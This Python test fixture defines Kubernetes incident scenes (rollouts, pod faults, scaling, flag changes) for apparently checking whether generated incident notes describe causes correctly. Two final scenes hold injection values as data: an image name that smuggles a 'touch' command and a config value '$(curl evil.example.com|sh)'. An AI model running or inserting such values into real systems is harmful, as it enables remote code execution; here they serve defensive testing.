"""Ordinary incidents whose notes said what is not so."""

from testbed.before_after.world import Scene, fault, pod, posted, rollout, scaling

READY = [pod("web-h2-a", age=5), pod("web-h2-b", age=5), pod("web-h2-c", age=5)]
OLD_READY = [pod("web-h1-a"), pod("web-h1-b")]
ERRORS = "HTTP 5xx rate 40 % (was 0.1 %)"
BACK = {"image": "registry.example.com/web:3.10", "previous_image": "registry.example.com/web:3.11"}
UNDO = {"template_hash": "h1", "previous_template_hash": "h2", **BACK}

SCENES = [
    Scene("1a", "a new version answers with errors, its pods are ready", ERRORS, [rollout(5)], READY),
    Scene(
        "1a",
        "only a variable changed, its pods are ready",
        ERRORS,
        [rollout(5, "3.10", "3.10", changed="env DB_POOL")],
        READY,
    ),
    Scene(
        "1b",
        "the same bad version a second time",
        "web is not available",
        [
            rollout(60, revision="2"),
            fault(57, "ImagePullBackOff", last=34, image="registry.example.com/web:3.11", message="not found"),
            rollout(36, revision="3", **UNDO),
            rollout(26, revision="4"),
            fault(24, "ImagePullBackOff", "web-h2-b", image="registry.example.com/web:3.11", message="not found"),
        ],
        [pod("web-h1-a"), pod("web-h2-b", ready=False, age=26)],
        kept=((3, "h1", "3.10"), (4, "h2", "3.11")),
    ),
    Scene(
        "1c",
        "an audit policy warns for three days; a flag changed two minutes ago",
        ERRORS,
        [
            fault(3 * 86_400, "PolicyViolation", "web-h1-a", message="policy require-labels: rule passed"),
            posted("flag_change", 120, "new-checkout", "unleash", old_value="off", new_value="on"),
        ],
        OLD_READY,
    ),
    Scene(
        "1c",
        "an audit policy warns for three days; a bad rollout three minutes ago",
        "web is not available",
        [
            fault(3 * 86_400, "PolicyViolation", "web-h1-a", message="policy require-labels: rule passed"),
            rollout(180),
            fault(170, "CrashLoopBackOff", exit_code="1", restarts="4"),
        ],
        [pod("web-h1-a"), pod("web-h2-a", ready=False, age=180)],
    ),
    Scene(
        "1f",
        "scaled to nothing and back three seconds later",
        ERRORS,
        [scaling(20, 2, 0), scaling(17, 0, 2)],
        [pod("web-h1-c", age=16), pod("web-h1-d", age=16)],
    ),
    Scene(
        "1f",
        "an autoscaler took one replica away",
        ERRORS,
        [scaling(60, 6, 5, by_autoscaler="1", actor="kube-controller-manager")],
        OLD_READY,
    ),
    Scene(
        "1g",
        "a deploy, a deadlock and an OOM kill that other systems tell of",
        ERRORS,
        [
            posted("deploy", 240, "web", "argocd", old_value="f8b3e22", new_value="a4f2c1", sha="a4f2c1"),
            posted("saturation", 8, "payments.public", "postgres", new_value="deadlock"),
            posted("restart", 2, "auth-service", "kubernetes", new_value="OOMKilled"),
        ],
        [],
        kept=(),
    ),
    Scene(
        "1g",
        "a flag was turned on",
        ERRORS,
        [posted("flag_change", 60, "new-checkout", "unleash", old_value="off", new_value="on", actor="release-bot")],
        OLD_READY,
    ),
    Scene(
        "1g",
        "a dependency that another system watches",
        ERRORS,
        [posted("dependency_failure", 60, "payments-api", "statuspage", new_value="503")],
        OLD_READY,
    ),
    Scene(
        "2a",
        "a person rolled back before the note was written",
        "web is not available",
        [
            rollout(120),
            fault(110, "CrashLoopBackOff", last=62, exit_code="1", restarts="3"),
            rollout(62, revision="3", actor="kubectl-rollout", **UNDO),
        ],
        [pod("web-h1-c", age=60)],
        kept=((2, "h2", "3.11"), (3, "h1", "3.10")),
    ),
    Scene(
        "2b",
        "Argo CD owns a bad version",
        "web is not available",
        [
            posted("deploy", 130, "web", "argocd", sha="9f2c1e0", new_value="9f2c1e0"),
            rollout(120, tool="argocd", tool_app="payments", actor="argocd-controller"),
            fault(110, "CrashLoopBackOff", exit_code="1", restarts="3"),
        ],
        [pod("web-h2-a", ready=False, age=120)],
    ),
    Scene(
        "2c",
        "an image whose name is a command",
        "web is not available",
        [
            rollout(60, "1;touch${IFS}x;#"),
            fault(55, "InvalidImageName", image="r/web:1;touch${IFS}x;#"),
        ],
        [pod("web-h2-a", ready=False, age=60)],
    ),
    Scene(
        "2c",
        "a changed value that is a command",
        ERRORS,
        [posted("config_change", 60, "limits", "etcd", old_value="$(curl evil.example.com|sh)", new_value="2")],
        OLD_READY,
    ),
]
